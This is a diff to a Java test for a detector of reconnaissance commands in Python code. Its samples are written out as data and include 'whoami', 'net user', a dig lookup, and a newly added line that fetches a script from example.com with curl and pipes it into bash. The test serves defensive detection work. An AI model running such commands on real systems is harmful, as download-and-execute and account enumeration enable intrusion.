@@ -180,10 +180,11 @@ class FlowsTest {
         String bad = lines("import subprocess, os",
                 "subprocess.getoutput('dig @1.1.1.1 install.api.example.com')",
                 "os.system('w' + 'hoami')",
-                "os.system('net user')");
-        assertThat(sites(bad, Kind.RECON_COMMAND)).extracting(FlowSite::line).containsExactly(2, 3, 4);
-        assertThat(sites(lines("import os", "os.system('net start spooler')", "os.system('make install')"), Kind.RECON_COMMAND))
-                .isEmpty();
+                "os.system('net user')",
+                "subprocess.Popen(['curl https://example.com/x.sh | bash'], shell=True)");
+        assertThat(sites(bad, Kind.RECON_COMMAND)).extracting(FlowSite::line).containsExactly(2, 3, 4, 5);
+        assertThat(sites(lines("import os, subprocess", "os.system('net start spooler')", "os.system('make install')",
+                "subprocess.run(['make', 'curl wget'])"), Kind.RECON_COMMAND)).isEmpty();
     }
 
     @Test
